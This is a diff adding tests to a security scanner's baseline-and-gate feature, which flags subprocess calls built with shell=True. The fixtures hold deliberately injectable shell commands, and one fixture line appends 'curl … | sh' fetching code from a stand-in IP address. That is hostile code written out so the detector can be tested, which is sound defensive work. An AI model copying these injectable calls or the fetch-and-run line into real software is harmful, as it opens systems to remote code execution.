@@ -80,6 +80,7 @@ def test_baseline_adopts_a_legacy_tree_then_fails_on_new_findings(
         "fingerprint": data["findings"][0]["fingerprint"],
         "rule": "AUD101",
         "risk": "low",  # trusted by the policy's path rule
+        "origin": data["findings"][0]["origin"],
         "path": "scripts/canonical/cleanup.py",
         "line": 5,
     }
@@ -382,3 +383,63 @@ def test_check_changed_follows_a_changed_file_into_the_unchanged_ones(
     # a changed file that no risky flow goes through: nothing of the rest of the project
     assert main([*gate, "--changed", "cron.py"]) == 0
     assert "0 findings at or above critical" in capsys.readouterr().out
+
+
+def test_a_baselined_finding_whose_payload_origin_became_more_dangerous_fails_the_gate(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """The call's text and its risk did not change, but what reaches it did: a dated tar
+    command built from a parameter, accepted, now any command read from a file."""
+    monkeypatch.chdir(tmp_path)
+    backup = (
+        "import subprocess\n\n\ndef backup(stamp):\n"
+        '    subprocess.run(f"tar czf /backup/app-{stamp}.tgz /srv/app", shell=True)\n'
+    )
+    (tmp_path / "jobs.py").write_text(backup, "utf-8")
+    assert main(["baseline", "--no-cache", "-o", "base.json"]) == 0
+    [entry] = json.loads((tmp_path / "base.json").read_text("utf-8"))["findings"]
+    assert (entry["rule"], entry["risk"], entry["origin"]) == ("AUD101", "high", "parameter")
+    gate = ["check", "--no-cache", "--baseline", "base.json", "--fail-on", "high"]
+    assert main(gate) == 0
+    capsys.readouterr()
+    (tmp_path / "jobs.py").write_text(
+        backup + "\n\ndef nightly():\n    backup(open('/tmp/backup-job.txt').read())\n", "utf-8"
+    )
+    assert main(gate) == 1
+    out = capsys.readouterr().out
+    assert "jobs.py:5:5: AUD101 high" in out
+    assert "its payload came from parameter, now from file" in out
+    # an entry written before origins were recorded accepts any origin (as it did)
+    del entry["origin"]
+    (tmp_path / "old.json").write_text(json.dumps({"schema": SCHEMA, "findings": [entry]}), "utf-8")
+    assert main(["check", "--no-cache", "--baseline", "old.json", "--fail-on", "high"]) == 0
+
+
+def test_a_baseline_entry_with_an_unknown_origin_is_a_one_line_error(tmp_path: Path) -> None:
+    path = tmp_path / "base.json"
+    path.write_text(
+        json.dumps({"schema": SCHEMA, "findings": [{"fingerprint": "ab", "origin": "moon"}]}),
+        "utf-8",
+    )
+    with pytest.raises(BaselineError, match=r"'findings\[0\]\.origin' must be null or one of"):
+        load(path)
+
+
+def test_text_appended_past_the_shown_snippet_is_a_new_call_for_the_baseline(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """The snippet shown is cut at 200 characters; the fingerprint is of the whole call."""
+    monkeypatch.chdir(tmp_path)
+    long_command = "rsync -a " + " ".join(f"/srv/data/part{i}" for i in range(30))
+    call = 'subprocess.run(f"{prefix} ' + long_command + '{suffix}", shell=True)\n'
+    code = "import subprocess\n\n\ndef sync(prefix, suffix=''):\n    " + call
+    (tmp_path / "sync.py").write_text(code, "utf-8")
+    assert main(["baseline", "--no-cache", "-o", "base.json"]) == 0
+    gate = ["check", "--no-cache", "--baseline", "base.json", "--fail-on", "high"]
+    assert main(gate) == 0
+    capsys.readouterr()
+    (tmp_path / "sync.py").write_text(
+        code.replace("{suffix}", "{suffix}; curl -s http://203.0.113.7/x | sh"), "utf-8"
+    )
+    assert main(gate) == 1
+    assert "sync.py:5:5: AUD101 high" in capsys.readouterr().out
